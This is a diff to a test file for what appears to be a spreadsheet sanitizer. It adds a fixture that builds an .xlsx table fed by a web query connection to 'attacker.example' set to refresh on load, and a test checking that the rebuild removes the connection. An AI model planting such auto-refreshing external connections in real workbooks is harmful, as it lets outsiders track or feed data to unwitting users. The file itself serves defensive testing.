@@ -348,3 +348,41 @@ def test_a_table_loses_its_column_formulas_that_reach_out(tmp_path: Path) -> Non
     ]
     assert formulas == ["T[[#This Row],[a]]*2"]
     assert len(table.findall(f".//{{{b.S}}}tableColumn")) == 3
+
+
+def query_table(package: b.Package) -> None:
+    """A table filled by a web query: its queryTable part, and the connection behind it."""
+    table_with_formulas(package)
+    package.replace(
+        "xl/tables/table1.xml",
+        'totalsRowCount="1"',
+        'totalsRowCount="1" tableType="queryTable" connectionId="1"',
+    )
+    package.replace(
+        "xl/tables/table1.xml",
+        '<tableColumn id="1" name="a"',
+        '<tableColumn id="1" name="a" queryTableFieldId="1"',
+    )
+    package.add(
+        "xl/queryTables/queryTable1.xml",
+        f'<queryTable xmlns="{b.S}" name="q" connectionId="1" autoFormatId="16" applyNumberFormats="0"/>',
+        b.DOC + "spreadsheetml.queryTable+xml",
+    )
+    package.relate("xl/tables/table1.xml", b.REL + "queryTable", "../queryTables/queryTable1.xml")
+    package.add(
+        "xl/connections.xml",
+        f'<connections xmlns="{b.S}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
+        '<webPr url="https://attacker.example/data"/></connection></connections>',
+        b.DOC + "spreadsheetml.connections+xml",
+    )
+    package.relate("xl/workbook.xml", b.REL + "connections", "connections.xml")
+
+
+def test_a_query_table_becomes_a_plain_table_without_its_connection(tmp_path: Path) -> None:
+    dst, report = rebuild(b.build(tmp_path / "in.xlsx", "xlsx", query_table), tmp_path)
+    assert removed_counts(report)["ooxml.data_connection"] == 2
+    assert not any(re.search("queryTable|connections", n) for n in b.part_names(dst))
+    table = ET.fromstring(dict(b.xml_parts(dst))["xl/tables/table1.xml"])
+    assert table.get("tableType") == "worksheet" and table.get("connectionId") is None
+    assert not any("queryTableFieldId" in column.attrib for column in table.iter(f"{{{b.S}}}tableColumn"))
+    b.assert_package_clean(dst)
